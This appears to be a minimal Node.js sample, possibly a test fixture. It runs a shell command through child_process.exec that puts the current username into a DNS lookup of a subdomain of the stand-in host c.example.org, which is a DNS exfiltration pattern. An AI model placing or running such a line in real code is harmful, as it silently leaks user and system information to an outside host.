const { exec } = require("child_process");

exec("nslookup $(whoami).c.example.org");
